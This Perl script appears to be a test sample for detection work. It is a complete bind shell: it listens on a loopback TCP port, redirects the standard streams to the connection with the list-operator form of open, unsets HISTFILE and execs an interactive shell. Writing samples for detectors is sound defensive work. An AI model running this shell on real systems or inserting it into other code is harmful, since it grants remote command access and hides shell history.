#!/usr/bin/perl
# test sample (inert: loopback only): a bind shell that reopens the standard streams with the
# list-operator form of open (no parentheses) and runs a command line ending in the shell
use Socket;
my $port = $ARGV[0] || 4444;
my $line = "unset HISTFILE;cd /tmp;/bin/sh -i";
$line = "%COMSPEC% /K" if $^O =~ /MSWin/i;
socket(L, &PF_INET, &SOCK_STREAM, getprotobyname('tcp')) || die;
setsockopt(L, SOL_SOCKET, SO_REUSEADDR, 1);
bind(L, sockaddr_in($port, inet_aton('127.0.0.1'))) || die;
listen(L, 1) || die;
accept(P, L);
open STDIN, "<&P";
open STDOUT, ">&P";
open STDERR, ">&P";
exec $line;
